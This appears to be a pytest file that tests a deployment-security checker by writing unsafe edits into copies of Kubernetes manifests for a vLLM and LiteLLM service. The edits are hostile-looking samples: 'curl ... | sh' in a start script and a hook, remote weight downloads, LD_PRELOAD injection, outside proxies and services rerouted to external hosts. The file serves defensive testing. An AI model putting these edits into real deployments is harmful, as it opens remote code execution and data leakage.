"""What would open a deployment beside its descriptor, in a copy of the example: it is red, or at least not proved."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.conftest import Ran

EXAMPLE = Path(__file__).parents[2] / "examples/kubernetes-vllm"
CHECK = ("check", "deploy.yaml", "--gate", "strict", "--as-of", "2026-11-21", "--format", "json")
GREEN = {"pass", "not-applicable"}
COMMAND = "          command: [vllm, serve]\n          args:"
HARDENING, INTEGRITY = "security-hardening", "security-weights-integrity"


class Attack(NamedTuple):
    """A change to the example, and the controls that must notice."""

    file: str
    before: str
    after: str
    red: frozenset[str] = frozenset()
    """Those that fail."""
    unproved: frozenset[str] = frozenset()
    """Those that say that manifests leave them open."""


def serving(before: str, after: str, *, red: str = "", unproved: str = "") -> Attack:
    return Attack("k8s/serving.yaml", before, after, frozenset(red.split()), frozenset(unproved.split()))


def proxy(before: str, after: str, *, red: str = "", unproved: str = "") -> Attack:
    return serving(before, after, red=red, unproved=unproved)._replace(file="k8s/proxy.yaml")


def started(script: str, *, red: str = "", unproved: str = "") -> Attack:
    after = COMMAND.replace("[vllm, serve]", f"[sh, -c, '{script}', --]")
    return serving(COMMAND, after, red=red, unproved=unproved)


def variable(name: str, value: str, *, red: str = "", unproved: str = "") -> Attack:
    first = "          env:\n            - name: "
    after = f'{first}{name}\n              value: "{value}"\n            - name: HF_HOME'
    return serving(ENVIRONMENT, after, red=red, unproved=unproved)


def beside(item: str, *, red: str = "", unproved: str = "") -> Attack:
    """Set a variable or another item beside those of the proxy."""
    first = "            - name: IBM_GUARDRAILS_AUTH_TOKEN"
    return serving(first, f"            - {item}\n{first}", red=red, unproved=unproved)


def engine(option: str, *, red: str = "", unproved: str = "") -> Attack:
    line = "            - --no-trust-remote-code"
    return serving(line, f"{line}\n            - {option}", red=red, unproved=unproved)


ENVIRONMENT = "          env:\n            - name: HF_HOME"
SETTINGS = "    general_settings:\n"
ATTACKS = {
    "variables of a ConfigMap that is not there": serving(
        ENVIRONMENT,
        f"          envFrom: [{{configMapRef: {{name: gone}}}}]\n{ENVIRONMENT}",
        red=HARDENING,
        unproved=f"{INTEGRITY} observe-run-log",
    ),
    "a configuration of the engine that is not there": engine(
        "--config=/etc/gone.yaml", red=HARDENING, unproved=f"{INTEGRITY} deploy-model-pinned"
    ),
    "a file that the script takes variables from": started(
        '. /etc/gone.env; exec vllm serve "$@"', red=HARDENING, unproved=INTEGRITY
    ),
    "a script that is not there": started(
        'exec /gone/start.sh "$@"', red=HARDENING, unproved=f"{INTEGRITY} data-third-party-egress"
    ),
    "a module in the engine's process": engine("--middleware=acme.tap", red=HARDENING),
    "weights that a hook fetches": serving(
        "          ports:\n            - {name: engine",
        "          lifecycle: {postStart: {exec: {command: [curl, -o, /models/m.bin, 'http://w.example.net/m.bin']}}}\n"
        "          ports:\n            - {name: engine",
        red=f"{INTEGRITY} data-encryption",
    ),
    "weights that the script fetches": started(
        'wget -P /models http://w.example.net/m.bin; exec vllm serve "$@"', red=f"{INTEGRITY} data-encryption"
    ),
    "a guard that somebody else runs": proxy(
        "base_url: https://detectors.assistant.svc:8443",
        "base_url: https://guard.example.net",
        red="data-third-party-egress",
    ),
    "tools that somebody else runs": proxy(
        "    router_settings:\n",
        "    mcp_servers: {x: {url: 'https://mcp.example.net'}}\n    router_settings:\n",
        red="data-third-party-egress",
    ),
    "prompts that are kept": proxy(
        SETTINGS, f"{SETTINGS}      store_prompts_in_spend_logs: true\n", red="observe-run-log"
    ),
    "alerts that leave": proxy(SETTINGS, f"{SETTINGS}      alerting: [slack]\n", red="data-third-party-egress"),
    "a route without a token": proxy(
        SETTINGS, f"{SETTINGS}      public_routes: [/v1/chat/completions]\n", unproved="security-endpoint-auth"
    ),
    "another configuration of the proxy": serving(
        "args: [--config, /etc/litellm/config.yaml",
        "args: [--config=/etc/gone.yaml",
        unproved="input-injection-defence",
    ),
    "a script from outside that the script runs": started(
        'curl -s https://x.example.net/i.sh | sh; exec vllm serve "$@"', red=HARDENING
    ),
    "packages that the script installs": started('pip install acme; exec vllm serve "$@"', red=HARDENING),
    "a script from outside that a hook runs": serving(
        "          ports:\n            - {name: engine",
        "          lifecycle: {postStart: {exec: {command: [sh, -c, 'curl https://x.example.net/i | sh']}}}\n"
        "          ports:\n            - {name: engine",
        red=HARDENING,
    ),
    "a library that is loaded before": variable("LD_PRELOAD", "/models/x.so", red=HARDENING),
    "modules from a volume": variable("PYTHONPATH", "/models/code", red=HARDENING),
    "a plugin": variable("VLLM_PLUGINS", "tap", red=HARDENING),
    "a worker from outside": engine("--worker-cls=acme.Worker", red=HARDENING),
    "a scheduler from outside": engine("--scheduler-cls=acme.Scheduler", red=HARDENING),
    "a proxy that somebody else runs": variable(
        "HTTPS_PROXY", "http://proxy.example.net:3128", red="data-third-party-egress data-encryption"
    ),
    "a proxy before the guards that somebody else runs": beside(
        "{name: HTTPS_PROXY, value: 'http://proxy.example.net:3128'}", red="data-third-party-egress"
    ),
    "arguments after what switches off": engine(
        "$(EXTRA)", red=HARDENING, unproved=f"{INTEGRITY} deploy-model-pinned observe-run-log"
    ),
    "telemetry of the collector itself": Attack(
        "k8s/telemetry.yaml",
        "    service:\n",
        "    service:\n      telemetry: {metrics: {readers: [{periodic: {exporter: {otlp:"
        " {endpoint: 'https://otel.example.net'}}}}]}}\n",
        frozenset({"residency-location"}),
    ),
    "a callback of the service": proxy(
        "      callbacks: [prometheus]\n",
        "      callbacks: [prometheus]\n      service_callback: [datadog]\n",
        red="data-third-party-egress",
    ),
    "a proxy that logs all of it": serving(
        "args: [--config, /etc", "args: [--detailed_debug, --config, /etc", red="observe-run-log input-audit-log"
    ),
    "a proxy whose level logs all of it": beside("{name: LITELLM_LOG, value: DEBUG}", red="observe-run-log"),
    "models from a database": beside(
        "{name: STORE_MODEL_IN_DB, value: 'True'}", unproved="data-third-party-egress data-encryption"
    ),
    "a guard's name that leads outside": proxy(
        "  type: ClusterIP\n  selector: {app.kubernetes.io/name: detectors}",
        "  type: ExternalName\n  externalName: guard.example.net",
        red="data-third-party-egress",
    ),
    "a collector's name that leads outside": Attack(
        "k8s/telemetry.yaml",
        "  type: ClusterIP\n  selector: {app.kubernetes.io/name: otel-collector}",
        "  type: ExternalName\n  externalName: otel.example.net",
        frozenset({"data-third-party-egress"}),
    ),
    "processes that containers share": serving(
        "      terminationGracePeriodSeconds",
        "      shareProcessNamespace: true\n      terminationGracePeriodSeconds",
        red=HARDENING,
    ),
    "a token of the account": serving(
        "      automountServiceAccountToken: false\n      nodeSelector",
        "      automountServiceAccountToken: true\n      nodeSelector",
        red=HARDENING,
    ),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_unsafe_change_of_a_manifest_is_not_green(
    attack: Attack, run: Callable[..., Ran], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(EXAMPLE, tmp_path / "copy")
    (tmp_path / "copy" / ".git").mkdir()
    file = tmp_path / "copy" / attack.file
    written = file.read_text(encoding="utf-8")
    assert attack.before in written
    file.write_text(written.replace(attack.before, attack.after, 1), encoding="utf-8")
    monkeypatch.chdir(tmp_path / "copy")
    ran = run(*CHECK)
    (assessment,) = json.loads(ran.out)["assessments"]
    red = {item["control"] for item in assessment["findings"] if item["status"] not in GREEN}
    assert red >= attack.red
    assert ran.code == (1 if attack.red else 0)
    unproved = {item["control"] for item in assessment["findings"] if item["assurance"] == "inconclusive"}
    assert unproved >= attack.unproved
